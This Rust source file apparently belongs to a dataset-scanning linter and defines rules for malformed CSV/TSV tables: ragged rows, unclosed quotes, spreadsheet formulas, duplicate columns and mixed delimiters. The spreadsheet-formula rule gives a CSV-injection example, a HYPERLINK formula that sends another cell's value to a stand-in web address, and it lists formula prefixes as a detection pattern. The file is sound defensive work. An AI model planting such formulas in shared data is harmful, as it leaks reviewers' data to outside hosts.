//! The rules about the structure of tables.

use bartizan_finding::Rule;

/// A row has more or fewer cells than the first.
///
/// ## What it finds
/// A row of a CSV or TSV file whose number of cells differs from that of the first row. Every cell is scanned all the
/// same.
/// ## Why it matters
/// Readers drop such a row, fill it up or shift its values under other names; each then trains on other data than was
/// reviewed. Often a delimiter or a quote in a value was not escaped, so that whoever wrote the value moved the rest.
/// ## Example
/// `id,text` followed by `1,hello, you`
/// ## Fix
/// Quote values that hold delimiters or line ends, and write the row again.
/// ## References
/// - <https://www.rfc-editor.org/rfc/rfc4180#section-2>
#[derive(Debug, Rule)]
#[rule(code = "DAT010", severity = "medium", confidence = "high", controls = ["data-scan"])]
pub(crate) struct RaggedRow;

/// A quote stands where readers disagree about it.
///
/// ## What it finds
/// A CSV file that ends within quotes, and text between the quote that closes a cell and the next delimiter.
/// ## Why it matters
/// After a quote that is never closed some readers take the rest of the file for one value and others for rows. A
/// filter then sees other rows than the trainer does.
/// ## Example
/// `1,"hello` with rows after it, or `1,"hello" you`
/// ## Fix
/// Double quotes within quotes, close those that are open, and compare the number of rows with the source.
/// ## References
/// - <https://www.rfc-editor.org/rfc/rfc4180#section-2>
/// - <https://cwe.mitre.org/data/definitions/436.html>
#[derive(Debug, Rule)]
#[rule(code = "DAT011", severity = "medium", confidence = "high", controls = ["data-scan"])]
pub(crate) struct BrokenQuotes;

/// A cell would be evaluated by a spreadsheet program.
///
/// ## What it finds
/// A cell that starts with `=`, `+`, `-` or `@`, after tabs and line ends, and is neither a number nor prose. A call
/// of a function or of another program is of medium severity, any other formula of low.
/// ## Why it matters
/// People who review or label data open it in a spreadsheet program, which may then fetch an address with the data
/// of other cells in it, or offer to start a program. To a model such text is harmless.
/// ## Example
/// `=HYPERLINK("https://example.com/?"&A1, "details")`
/// ## Fix
/// Ask how the value came to be; write an apostrophe before it in copies that people open, not in the data itself.
/// ## References
/// - <https://owasp.org/www-community/attacks/CSV_Injection>
/// - <https://cwe.mitre.org/data/definitions/1236.html>
#[derive(Debug, Rule)]
#[rule(code = "DAT012", severity = "low", confidence = "medium", controls = ["data-scan"])]
pub(crate) struct SpreadsheetFormula;

/// Two columns have the same name.
///
/// ## What it finds
/// Two equal names in the first row of a CSV or TSV file.
/// ## Why it matters
/// Readers keep the first, the last or both under new names: a filter can read one column and the trainer another.
/// ## Example
/// `id,text,text`
/// ## Fix
/// Give each column a name of its own, at the source.
/// ## References
/// - <https://www.w3.org/TR/tabular-data-model/#columns>
#[derive(Debug, Rule)]
#[rule(code = "DAT013", severity = "medium", confidence = "high", controls = ["data-scan"])]
pub(crate) struct DuplicateColumn;

/// Rows of one file are written with different delimiters.
///
/// ## What it finds
/// A row that has as many cells as the first one only if it is split at another delimiter than that one.
/// ## Why it matters
/// Files from different sources were put together. Readers take such a row for a single cell or refuse the file.
/// ## Example
/// `id,text` followed by `1;hello`
/// ## Fix
/// Write all rows with one delimiter.
/// ## References
/// - <https://www.w3.org/TR/tabular-data-model/#parsing>
#[derive(Debug, Rule)]
#[rule(code = "DAT014", severity = "medium", confidence = "medium", controls = ["data-scan"])]
pub(crate) struct MixedDelimiters;
